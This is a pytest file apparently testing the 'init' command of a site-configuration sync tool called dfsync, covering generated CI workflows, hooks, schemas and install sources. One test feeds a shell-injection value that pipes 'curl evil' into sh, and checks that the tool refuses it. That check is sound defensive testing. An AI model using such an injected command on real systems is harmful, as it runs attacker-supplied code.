"""`dfsync init`: a repository that works as it is written."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
import yaml

from dfsync import __version__
from dfsync.runtime.resources import folder
from dfsync.sandbox import Sandbox
from dfsync.sandbox.example import EXAMPLE
from tests.support.run import dfsync

ALWAYS = {
    ".pre-commit-config.yaml",
    ".vscode/settings.json",
    "dfsync.yaml",
    "schemas/config.schema.json",
    "schemas/contact.schema.json",
    "schemas/site.schema.json",
    "sites/us/downtown.yaml",
}


def written(root: Path) -> set[str]:
    """Return the files below a root, git's own left out."""
    return {
        path.relative_to(root).as_posix() for path in root.rglob("*") if path.is_file() and ".git" not in path.parts
    }


@pytest.mark.parametrize(
    ("ci", "workflow"),
    [
        ("github", {".github/workflows/dfsync.yml"}),
        ("gitlab", {".gitlab-ci.yml"}),
        ("azure", {"azure-pipelines.yml"}),
        ("none", set()),
    ],
)
def test_starter_is_valid_and_in_canonical_style(tmp_path: Path, ci: str, workflow: set[str]) -> None:
    """What init writes passes validate without a single finding, and fmt has nothing to change."""
    outcome = dfsync(tmp_path, "init", "--ci", ci)
    assert outcome.code == 0, outcome.err
    expected = ALWAYS | workflow | ({"requirements-dfsync.txt"} if workflow else set())
    assert written(tmp_path) == expected
    assert outcome.out.splitlines() == [f"wrote {path}" for path in sorted(expected)]
    validated = dfsync(tmp_path, "validate")
    assert validated.code == 0
    assert "No problems" in validated.out + validated.err
    formatted = dfsync(tmp_path, "fmt", "--check")
    assert formatted.code == 0, formatted.out + formatted.err


def test_the_workflow_applies_what_is_pushed_to_the_repositorys_own_branch(tmp_path: Path) -> None:
    """It is the branch of the remote or of a new repository, never the one that happens to be checked out."""

    def branches(root: Path) -> str:
        outcome = dfsync(root, "init")
        assert outcome.code == 0
        return yaml.safe_load((root / ".github/workflows/dfsync.yml").read_text())[True]["push"]["branches"]

    def git(root: Path, *arguments: str) -> None:
        who = ("-c", "user.name=Me", "-c", "user.email=me@localhost")
        subprocess.run(["git", *who, *arguments], cwd=root, check=True, capture_output=True)

    new, used, clone, none = (tmp_path / name for name in ("new", "used", "clone", "none"))
    for root in (new, used):
        git(tmp_path, "init", "-q", "-b", "trunk", str(root))
    git(used, "commit", "-q", "--allow-empty", "-m", "Start")
    git(tmp_path, "clone", "-q", str(used), str(clone))
    for root in (used, clone):
        git(root, "checkout", "-q", "-b", "try-dfsync")
    none.mkdir()
    assert [branches(root) for root in (new, used, clone, none)] == [["trunk"], ["main"], ["trunk"], ["main"]]


def test_existing_hooks_stay_as_they_are(tmp_path: Path) -> None:
    """A repository that has hooks of its own keeps them, and gets the rest."""
    (tmp_path / ".pre-commit-config.yaml").write_text("repos: []\n", encoding="utf-8")
    outcome = dfsync(tmp_path, "init", "--ci", "none")
    assert outcome.code == 0
    assert ".pre-commit-config.yaml exists already" in outcome.err
    assert (tmp_path / ".pre-commit-config.yaml").read_text(encoding="utf-8") == "repos: []\n"
    assert (tmp_path / "dfsync.yaml").is_file()


def test_existing_repository_is_never_overwritten(tmp_path: Path) -> None:
    """Where there is a dfsync.yaml, nothing at all is written."""
    (tmp_path / "dfsync.yaml").write_text("mine\n", encoding="utf-8")
    outcome = dfsync(tmp_path, "init")
    assert outcome.code == 1
    assert "dfsync.yaml" in outcome.err
    assert written(tmp_path) == {"dfsync.yaml"}
    assert (tmp_path / "dfsync.yaml").read_text(encoding="utf-8") == "mine\n"


def test_folder_is_made_and_target_and_customer_are_as_asked(tmp_path: Path) -> None:
    """`init DIR` makes the folder; a target name that other readers take for more is quoted."""
    assert dfsync(tmp_path, "--target", "yes", "init", "my/sites", "--customer-id", "77").code == 0
    config = yaml.safe_load((tmp_path / "my/sites/dfsync.yaml").read_text(encoding="utf-8"))
    assert config["targets"] == {"yes": {"customer_id": 77}}
    assert config["default_target"] == "yes"
    assert dfsync(tmp_path / "my/sites", "validate").code == 0


def test_a_target_that_validate_would_refuse_is_refused(tmp_path: Path) -> None:
    """State is kept under the name, so it has the form of a name."""
    outcome = dfsync(tmp_path, "--target", "a b/..", "init")
    assert (outcome.code, written(tmp_path)) == (64, set())
    assert "a b/.. can't be a name in targets" in outcome.err


def test_state_is_shared_where_there_is_a_remote(tmp_path: Path) -> None:
    """In a clone, state is kept where CI finds it; elsewhere in a file."""
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    subprocess.run(["git", "-C", str(tmp_path), "remote", "add", "origin", "https://git.example.com/x.git"], check=True)
    dfsync(tmp_path, "init")
    assert "state: {backend: git, remote: origin}" in (tmp_path / "dfsync.yaml").read_text(encoding="utf-8")
    dfsync(tmp_path, "init", "elsewhere")
    assert dfsync(tmp_path, "validate").code == 0


def test_schemas_are_those_that_validate_runs(tmp_path: Path) -> None:
    """Editors check against the very schemas of this version."""
    dfsync(tmp_path, "init")
    for path in (tmp_path / "schemas").iterdir():
        assert path.read_bytes() == (folder("schemas") / path.name).read_bytes()


def test_modelines_lead_to_the_schemas(tmp_path: Path) -> None:
    """The first line of every file tells editors where its schema is."""
    dfsync(tmp_path, "init")
    for file in ("dfsync.yaml", "sites/us/downtown.yaml"):
        path = tmp_path / file
        modeline = path.read_text(encoding="utf-8").splitlines()[0]
        assert modeline.startswith("# yaml-language-server: $schema=")
        assert (path.parent / modeline.partition("=")[2]).resolve().is_file()


def test_hooks_judge_what_is_being_committed(tmp_path: Path) -> None:
    """The hooks' own commands pass on the starter, and refuse what is staged, not what lies on disk."""
    dfsync(tmp_path, "init")
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    hooks = yaml.safe_load((tmp_path / ".pre-commit-config.yaml").read_text(encoding="utf-8"))["repos"][0]["hooks"]
    validate = next(hook["entry"] for hook in hooks if hook["id"] == "dfsync-validate").split()[1:]
    site = tmp_path / "sites/us/downtown.yaml"
    good = site.read_text(encoding="utf-8")
    site.write_text(good.replace("name: Downtown", "nme: Downtown"), encoding="utf-8")
    subprocess.run(["git", "-C", str(tmp_path), "add", "-A"], check=True)
    site.write_text(good, encoding="utf-8")
    assert dfsync(tmp_path, *validate).code == 1
    subprocess.run(["git", "-C", str(tmp_path), "add", "-A"], check=True)
    assert dfsync(tmp_path, *validate).code == 0


@pytest.mark.parametrize(
    ("ci", "file"),
    [
        ("github", ".github/workflows/dfsync.yml"),
        ("gitlab", ".gitlab-ci.yml"),
        ("azure", "azure-pipelines.yml"),
    ],
)
def test_workflow_installs_this_version(tmp_path: Path, ci: str, file: str) -> None:
    """CI runs the version that wrote the workflow."""
    dfsync(tmp_path, "init", "--ci", ci)
    text = (tmp_path / file).read_text(encoding="utf-8")
    assert text.count(f'"dragonfruit-dfsync=={__version__}"') == text.count("--no-deps") > 0
    assert text.count("--require-hashes -r requirements-dfsync.txt") == text.count("--no-deps")
    assert (tmp_path / "requirements-dfsync.txt").read_text(encoding="utf-8").count("--hash=sha256:") > 100


@pytest.mark.parametrize(
    ("source", "installed"),
    [
        ("1.2.3", "dragonfruit-dfsync==1.2.3"),
        ("dragonfruit-dfsync>=1,<2", "dragonfruit-dfsync>=1,<2"),
        (
            "https://example.com/dragonfruit_dfsync-1-py3-none-any.whl#sha256=0a",
            "dragonfruit-dfsync @ https://example.com/dragonfruit_dfsync-1-py3-none-any.whl#sha256=0a",
        ),
        ("git+https://example.com/dfsync@v1", "dragonfruit-dfsync @ git+https://example.com/dfsync@v1"),
        ("vendor/dragonfruit_dfsync-1-py3-none-any.whl", "vendor/dragonfruit_dfsync-1-py3-none-any.whl"),
    ],
)
@pytest.mark.parametrize(
    ("ci", "file"),
    [
        ("github", ".github/workflows/dfsync.yml"),
        ("gitlab", ".gitlab-ci.yml"),
        ("azure", "azure-pipelines.yml"),
    ],
)
def test_workflow_installs_from_the_source_that_is_named(
    tmp_path: Path, ci: str, file: str, source: str, installed: str
) -> None:
    """`--source` is a version, a requirement, a URL or a path; pip gets it as one argument."""
    assert dfsync(tmp_path, "init", "--ci", ci, "--source", source).code == 0
    text = (tmp_path / file).read_text(encoding="utf-8")
    assert f'--no-deps "{installed}"' in text
    assert f"dragonfruit-dfsync=={__version__}" not in text
    assert yaml.safe_load(text)


def test_a_source_that_is_shell_is_refused(tmp_path: Path) -> None:
    """It stands in a script; nothing is written."""
    outcome = dfsync(tmp_path, "init", "--source", '1"; curl evil | sh; "')
    assert outcome.code == 1
    assert "--source" in outcome.err
    assert written(tmp_path) == set()


def test_from_init_to_a_verified_apply(tmp_path: Path) -> None:
    """The README's five minutes: init, validate, plan, apply, and the next plan is empty."""
    dfsync(tmp_path, "init", "--customer-id", "123")
    with Sandbox(EXAMPLE) as sandbox:
        environment = sandbox.environment()
        for arguments, code in (
            (("plan", "--detailed-exitcode"), 2),
            (("apply", "--auto-approve"), 0),
            (("plan", "--detailed-exitcode"), 0),
        ):
            outcome = dfsync(tmp_path, *arguments, environment=environment)
            assert outcome.code == code, outcome.out + outcome.err
        saturday = {"days": ["Sat"], "start": "10:00", "end": "16:59"}
        assert saturday in sandbox.rows()["site-123"]["Operational Hours"]


def test_from_live_holds_what_is_live(tmp_path: Path) -> None:
    """`--from-live` writes the live sites instead of the example: nothing is unmanaged, nothing is to be sent."""
    with Sandbox(EXAMPLE) as sandbox:
        environment = sandbox.environment()
        outcome = dfsync(tmp_path, "init", "--from-live", environment=environment)
        assert outcome.code == 0, outcome.err
        assert not (tmp_path / "sites/us/downtown.yaml").exists()
        planned = dfsync(tmp_path, "plan", "--detailed-exitcode", environment=environment)
        assert planned.code == 0, planned.out
        assert "unmanaged" not in planned.out
    validated = dfsync(tmp_path, "validate")
    assert validated.code == 0
    assert "warning" not in validated.out
